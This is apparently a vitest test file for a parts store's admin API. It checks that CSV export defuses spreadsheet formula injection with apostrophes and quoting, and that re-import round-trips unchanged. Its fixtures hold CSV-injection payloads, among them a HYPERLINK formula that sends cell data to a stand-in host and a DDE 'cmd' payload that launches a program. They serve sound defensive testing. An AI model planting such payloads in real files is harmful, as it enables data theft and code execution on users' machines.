import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { pickPartInput } from '../../store/shared/part-fields';
import type { PartInput } from '../../store/types';
import { bearer, json } from '../../testing/api-client';
import { postCsvImport, useAdminTestApp, validPartFields } from '../testing';

const { server, session } = useAdminTestApp();

/** Parts whose texts a spreadsheet would run as formulas, or that look like them. */
const HOSTILE: Omit<PartInput, 'imagem'>[] = [
  {
    ...validPartFields('-A1'),
    nome_pt: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
    nome_en: "+cmd|' /C calc'!A0",
    descricao_pt: '- começa com um traço',
    categoria: 'Hidráulica',
    preco: 12.5,
    estoque: 3,
  },
  {
    ...validPartFields('@REF-2'),
    nome_es: "'=já com apóstrofo",
    descricao_en: '+55 11 5555-5555',
    categoria: 'Elétrica',
    preco: 0,
    estoque: 0,
  },
  // Issue 38: a line break or a comma inside a cell, then a formula.
  {
    ...validPartFields('LB-3'),
    descricao_pt: 'ok\n=1+1',
    descricao_en: 'x,=HYPERLINK("http://evil.example")',
    descricao_es: 'linha\r\n@SUM(1)',
    categoria: 'Mecânica',
    preco: 9.9,
    estoque: 1,
  },
];

async function exportCsv(): Promise<string> {
  const response = await fetch(`${server.url}/api/produtos-exportar.php`, {
    headers: bearer(session.admin),
  });
  expect(response.status).toBe(200);
  return response.text();
}

describe('CSV export and import of formula-like texts', () => {
  it('exports them behind an apostrophe and imports them back unchanged', async () => {
    for (const input of HOSTILE) await server.services.store.parts.create({ ...input, imagem: '' });
    const before = await server.services.store.parts.list();

    const csv = await exportCsv();
    expect(csv).toContain(`\r\n'-A1;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")";`);
    expect(csv).toContain(";'+cmd|' /C calc'!A0;");
    expect(csv).toContain("\r\n'@REF-2;");
    expect(csv).toContain(";''=já com apóstrofo;");
    // No cell of the file, as a spreadsheet reads it, starts like a formula any more.
    const cells = (parse(csv, { bom: true, delimiter: ';' }) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('ok\n=1+1');
    // Quoted, so a spreadsheet that ends rows at a bare LF or cells at a comma keeps them whole.
    expect(csv).toContain(
      ';"ok\n=1+1";"x,=HYPERLINK(""http://evil.example"")";"linha\r\n@SUM(1)";',
    );
    expect(cells).toContain('x,=HYPERLINK("http://evil.example")');

    for (const part of before) await server.services.store.parts.delete(part.id);
    const response = await postCsvImport(server.url, session.admin, csv);
    expect(await json(response)).toMatchObject({
      applied: true,
      summary: { new: 3, changed: 0, unchanged: 0, error: 0 },
    });
    const after = await server.services.store.parts.list();
    expect(after.map(pickPartInput)).toEqual(before.map(pickPartInput));
    // And a second export of the imported parts is the same file.
    expect(await exportCsv()).toBe(csv);
  });
});
